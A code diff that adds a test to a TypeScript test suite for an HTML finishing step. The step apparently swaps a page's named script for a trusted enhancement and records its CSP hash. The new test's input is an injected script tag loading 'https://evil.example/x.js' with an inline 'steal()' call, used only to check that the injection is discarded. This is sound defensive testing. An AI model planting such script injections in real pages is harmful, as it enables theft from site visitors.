@@ -1,6 +1,7 @@
 import assert from 'node:assert/strict'
 import { createHash } from 'node:crypto'
 import { test } from 'node:test'
+import { ENHANCEMENTS } from './enhancements.ts'
 import { finish, SuspendedPage } from './finish.ts'
 
 const page = (head: string, body: string) =>
@@ -28,6 +29,15 @@ test('data stays where it is, and so does everything else, in order', () => {
 test('a script is data only by its type, whatever it is called', () => {
   const scripts = '<script type="module">1</script><script id="ld+json">2</script>'
   assert.equal(finish(page(scripts, '')).html, page('', ''))
+})
+
+test('a named enhancement says what the press says, whatever the page put into it', () => {
+  const asked = '<script id="copy-link" src="https://evil.example/x.js" defer>steal()</script>'
+  const { html, scripts } = finish(page('', asked))
+  const source = ENHANCEMENTS.get('copy-link')
+  assert.equal(html, page('', `<script id="copy-link">${source}</script>`))
+  const hash = createHash('sha256').update(String(source)).digest('base64')
+  assert.deepEqual(scripts, [`'sha256-${hash}'`])
 })
 
 test('the status a page states of itself is taken out of it', () => {
